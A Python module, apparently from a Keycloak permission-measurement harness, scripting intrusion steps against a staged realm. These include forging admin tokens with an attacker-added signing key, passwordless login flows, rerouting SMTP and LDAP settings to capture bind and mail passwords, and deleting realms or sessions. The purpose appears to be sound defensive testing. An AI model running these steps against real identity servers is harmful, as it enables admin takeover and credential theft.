"""Ways through the realm's own settings: import, keys, flows, mail, directories, events, organizations."""

import time
from contextlib import suppress
from typing import Any

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from tools.measure.fixtures import user_body
from tools.measure.fixtures_realm import ldap_body
from tools.measure.powers.intruder import Intruder
from tools.measure.powers.way import Ease, Fruitless, Refused, Yields, way
from tools.measure.powers.ways_users import ADMIN_COMPOSITE, HAS_ADMINISTRATOR, HAS_COMPOSITE, HAS_GROUP, REALM_ADMIN, forgotten_password
from tools.measure.stage import PASSWORD

MASKED = "**********"
PLANTED = "planted-secret-7"
KEYS = "org.keycloak.keys.KeyProvider"


@way("import-administrator", Yields.BECOMES_ADMIN, "import a user who holds realm-admin (partial import) and log in as them")
async def _import_administrator(who: Intruder) -> None:
    user = user_body("imported-{n}") | {"clientRoles": {"realm-management": ["realm-admin"]}}
    await who.call("POST", "/partialImport", {"ifResourceExists": "FAIL", "users": [user]})
    await who.becomes_admin(await who.log_in(f"imported-{who.suffix}"))


@way(
    "own-signing-key",
    Yields.BECOMES_ADMIN,
    "add a signing key of their own and sign a token of an administrator",
    ease=Ease.USUAL,
    needs=HAS_ADMINISTRATOR,
    own_realm=True,
)
async def _own_signing_key(who: Intruder) -> None:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.TraditionalOpenSSL, serialization.NoEncryption()
    ).decode()
    config = {"priority": ["1000"], "algorithm": ["RS256"], "privateKey": [pem], "enabled": ["true"], "active": ["true"]}
    body = {"name": "own-{n}", "providerId": "rsa", "providerType": KEYS, "parentId": "{realm.id}", "config": config}
    await who.call("POST", "/components", body)
    who.calls[-1] = "POST /components (provider rsa, their own private key)"
    await who.becomes_admin(await _signed(who, key))


async def _signed(who: Intruder, key: rsa.RSAPrivateKey) -> str:
    realm, now = who.stand.realm, int(time.time())
    keys = (await realm.admin("GET", "/keys")).body["keys"]
    best = max((each for each in keys if each.get("algorithm") == "RS256"), key=lambda each: each.get("providerPriority", 0))
    claims: dict[str, Any] = {
        "iss": f"{realm.server.base_url}/realms/{realm.name}",
        "sub": await who.scope.get("administrator"),
        "aud": "realm-management",
        "typ": "Bearer",
        "azp": "admin-cli",
        "iat": now,
        "exp": now + 600,
        "jti": f"own-{who.suffix}",
        "scope": "openid",
        "preferred_username": f"administrator-{who.suffix}",
        "resource_access": {"realm-management": {"roles": ["realm-admin"]}},
    }
    who.calls.append("sign a token of an administrator with that key")
    return jwt.encode(claims, key, algorithm="RS256", headers={"kid": best["kid"]})


@way(
    "login-without-password",
    Yields.BECOMES_ADMIN,
    "bind a login flow that asks for no password and log in as an administrator",
    ease=Ease.USUAL,
    needs=HAS_ADMINISTRATOR,
    own_realm=True,
)
async def _login_without_password(who: Intruder) -> None:
    await who.fixtures("administrator")
    await who.call("POST", "/authentication/flows", {"alias": "own-{n}", "providerId": "basic-flow", "topLevel": True, "builtIn": False})
    await who.call("POST", "/authentication/flows/own-{n}/executions/execution", {"provider": "direct-grant-validate-username"})
    executions = (await who.call("GET", "/authentication/flows/own-{n}/executions")).body
    await who.call("PUT", "/authentication/flows/own-{n}/executions", {**executions[0], "requirement": "REQUIRED"})
    who.calls[-1] = "PUT /authentication/flows/own-{n}/executions (REQUIRED)"
    await who.call("PUT", "", {"directGrantFlow": "own-{n}"})
    await who.becomes_admin(await who.log_in(f"administrator-{who.suffix}", "any"))


@way(
    "own-mail-server",
    Yields.BECOMES_ADMIN,
    "point the realm's mail at a server of their own and ask for a new password of an administrator",
    ease=Ease.USUAL,
    needs=f"{HAS_ADMINISTRATOR} and an e-mail address",
    own_realm=True,
    listens=True,
)
async def _own_mail_server(who: Intruder) -> None:
    nobody = {"host": "localhost", "port": "1", "from": "stage@localhost"}
    await who.stand.realm.admin("PUT", "", {"smtpServer": nobody, "resetPasswordAllowed": False})
    await who.fixtures("administrator")
    own = {"host": "localhost", "port": str(who.sinks.mailbox.port), "from": "own@localhost"}
    await who.call("PUT", "", {"smtpServer": own, "resetPasswordAllowed": True})
    await who.becomes_admin(await forgotten_password(who, f"administrator-{who.suffix}"))


async def _mail_with_password(who: Intruder) -> dict[str, str]:
    """The realm's mail settings hold a password; the same settings with it masked and the intruder's server in them."""
    settings = {"host": "localhost", "port": "1", "from": "stage@localhost", "auth": "true", "user": "mailer", "password": PLANTED}
    await who.stand.realm.admin("PUT", "", {"smtpServer": settings})
    who.sinks.mailbox.clear()
    return settings | {"port": str(who.sinks.mailbox.port), "password": MASKED}


@way(
    "mail-password-by-test",
    Yields.READS_SECRETS,
    "have the mail server's password sent to a server of their own by the connection test",
    ease=Ease.SPECIAL,
    needs="the realm's mail server takes a password",
    own_realm=True,
    listens=True,
)
async def _mail_password_by_test(who: Intruder) -> None:
    await who.call("POST", "/testSMTPConnection", await _mail_with_password(who))
    who.found(PLANTED, who.sinks.mailbox.text)


@way(
    "mail-password-by-own-server",
    Yields.READS_SECRETS,
    "have the mail server's password sent to a server of their own by changing the address",
    ease=Ease.SPECIAL,
    needs="the realm's mail server takes a password",
    own_realm=True,
    listens=True,
)
async def _mail_password_by_own_server(who: Intruder) -> None:
    await who.call("PUT", "", {"smtpServer": await _mail_with_password(who)})
    with suppress(Fruitless):
        await forgotten_password(who, await _name_of_user(who))
    who.found(PLANTED, who.sinks.mailbox.text)


async def _name_of_user(who: Intruder) -> str:
    await who.scope.get("user")
    return await who.scope.get("user.name")


@way(
    "mail-password-in-realm",
    Yields.READS_SECRETS,
    "read the mail server's password",
    ease=Ease.SPECIAL,
    needs="the realm's mail server takes a password",
    own_realm=True,
)
async def _mail_password_in_realm(who: Intruder) -> None:
    await _mail_with_password(who)
    who.found(PLANTED, (await who.call("GET", "")).body)


@way(
    "directory-password-by-test",
    Yields.READS_SECRETS,
    "have the directory's bind password sent to a server of their own by the connection test",
    ease=Ease.SPECIAL,
    needs="an LDAP federation is configured",
    listens=True,
)
async def _directory_password_by_test(who: Intruder) -> None:
    who.sinks.directory.clear()
    url = f"ldap://localhost:{who.sinks.directory.port}"
    body = {
        "action": "testAuthentication",
        "connectionUrl": url,
        "bindDn": "cn=admin",
        "bindCredential": MASKED,
        "authType": "simple",
        "componentId": "{planted-ldap}",
        "connectionTimeout": "3000",
    }
    answer = await who.ask("POST", "/testLDAPConnection", body)
    if answer.status in (401, 403):
        raise Refused(step=1, status=answer.status)
    who.found(PLANTED, who.sinks.directory.text)  # the test itself fails, for the listener answers nothing


@way(
    "directory-password-by-own-server",
    Yields.READS_SECRETS,
    "have the directory's bind password sent to a server of their own by changing the address",
    ease=Ease.SPECIAL,
    needs="an LDAP federation is configured",
    listens=True,
    own_realm=True,
)
async def _directory_password_by_own_server(who: Intruder) -> None:
    who.sinks.directory.clear()
    changed = planted_ldap("ldap-{n}", url=f"ldap://localhost:{who.sinks.directory.port}", credential=MASKED)
    await who.call("PUT", "/components/{planted-ldap}", changed | {"id": "{planted-ldap}"})
    with suppress(Fruitless):  # the directory is asked for the user all the same
        await who.log_in("nobody-known")
    who.found(PLANTED, who.sinks.directory.text)


def planted_ldap(name: str, *, url: str = "ldap://localhost:1", credential: str = PLANTED) -> dict[str, Any]:
    """A user federation whose bind password is known to the check."""
    body = ldap_body(name)
    config = {
        **body["config"],
        "connectionUrl": [url],
        "bindCredential": [credential],
        "connectionTimeout": ["3000"],
        "readTimeout": ["3000"],
    }
    return {**body, "config": config | {"enabled": ["true"] if credential == MASKED else ["false"]}}


@way(
    "secret-in-components",
    Yields.READS_SECRETS,
    "read the directory's bind password",
    ease=Ease.SPECIAL,
    needs="an LDAP federation is configured",
)
async def _secret_in_components(who: Intruder) -> None:
    await who.fixtures("planted-ldap")
    who.found(PLANTED, (await who.call("GET", "/components")).body)


@way("private-key-in-components", Yields.READS_SECRETS, "read the realm's private keys", own_realm=True)
async def _private_key_in_components(who: Intruder) -> None:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.TraditionalOpenSSL, serialization.NoEncryption()
    ).decode()
    config = {"priority": ["1"], "algorithm": ["RS256"], "privateKey": [pem]}
    await who.scope.make(
        "/components", {"name": "planted", "providerId": "rsa", "providerType": KEYS, "parentId": "{realm.id}", "config": config}
    )
    answer = await who.call("GET", "/components", query=f"type={KEYS}")
    who.found(pem.splitlines()[-4], answer.body)


@way("extend-default-role", Yields.BECOMES_ADMIN, "make realm-admin a part of the realm's default role", own_realm=True)
async def _extend_default_role(who: Intruder) -> None:
    await who.fixtures("user")
    await who.call("POST", "/roles/default-roles-{realm}/composites", REALM_ADMIN)
    await who.becomes_admin(await who.log_in(f"user-{who.suffix}"))


@way(
    "extend-default-role-by-composite",
    Yields.BECOMES_ADMIN,
    "make a role that contains an administrator's role a part of the realm's default role",
    ease=Ease.SPECIAL,
    needs=HAS_COMPOSITE,
    own_realm=True,
)
async def _extend_default_role_by_composite(who: Intruder) -> None:
    await who.fixtures("user")
    await who.call("POST", "/roles/default-roles-{realm}/composites", ADMIN_COMPOSITE)
    await who.becomes_admin(await who.log_in(f"user-{who.suffix}"))


@way(
    "register-into-administrators-group",
    Yields.BECOMES_ADMIN,
    "make a group that holds an administrator's role a default group, open the registration, and register",
    ease=Ease.SPECIAL,
    needs=HAS_GROUP,
    own_realm=True,
)
async def _register_into_group(who: Intruder) -> None:
    await who.call("PUT", "/default-groups/{administrators}", {})
    await who.call("PUT", "", {"registrationAllowed": True})
    who.calls.append("register as a new user")
    name = f"registered-{who.suffix}"
    person = {
        "username": name,
        "email": f"{name}@localhost",
        "firstName": "A",
        "lastName": "B",
        "password": PASSWORD,
        "password-confirm": PASSWORD,
    }
    async with who.browser() as browser:
        link = (await browser.start()).link("/registration")
        if link is None:
            raise Fruitless("the login page offers no registration")
        page = await browser.submit(await browser.open(link), person)
        await who.becomes_admin(await who.log_in_by(page, browser))


@way(
    "import-client-secret",
    Yields.BECOMES_ADMIN,
    "overwrite a service account that is an administrator by an import with a secret of their own, and log in as it",
    ease=Ease.SPECIAL,
    needs="a service account holds an administrator's role",
)
async def _import_client_secret(who: Intruder) -> None:
    await who.fixtures("powerful-client")
    client = {"clientId": "powerful-{n}", "secret": "own-secret", "serviceAccountsEnabled": True, "fullScopeAllowed": True}
    await who.call("POST", "/partialImport", {"ifResourceExists": "OVERWRITE", "clients": [client]})
    await who.becomes_admin(await who.log_in_as_client(f"powerful-{who.suffix}", "own-secret"))


@way("delete-realm", Yields.DESTROYS, "delete the realm", own_realm=True)
async def _delete_realm(who: Intruder) -> None:
    await who.call("DELETE", "")
    await who.gone("")


@way("end-all-sessions", Yields.DESTROYS, "end all sessions of the realm", own_realm=True)
async def _end_all_sessions(who: Intruder) -> None:
    await who.fixtures("user+session")
    await who.call("POST", "/logout-all", {})
    await who.gone("/users/{user}/sessions")


@way("delete-component", Yields.DESTROYS, "delete user federations and keys")
async def _delete_component(who: Intruder) -> None:
    await who.call("DELETE", "/components/{planted-ldap}")
    await who.gone("/components/{planted-ldap}")


@way("change-realm", Yields.CHANGES, "change the realm's settings", own_realm=True)
async def _change_realm(who: Intruder) -> None:
    await who.call("PUT", "", {"displayName": "changed"})
    if (await who.stand.realm.admin("GET", "")).body.get("displayName") != "changed":
        raise Fruitless("the change was ignored")


@way("create-role", Yields.CHANGES, "create realm roles")
async def _create_role(who: Intruder) -> None:
    await who.call("POST", "/roles", {"name": "made-{n}"})


@way("read-realm", Yields.READS, "read the realm's settings")
async def _read_realm(who: Intruder) -> None:
    who.found("accessTokenLifespan", (await who.call("GET", "")).body)


@way("read-realm-name", Yields.READS, "read the realm's name and languages")
async def _read_realm_name(who: Intruder) -> None:
    await who.call("GET", "")
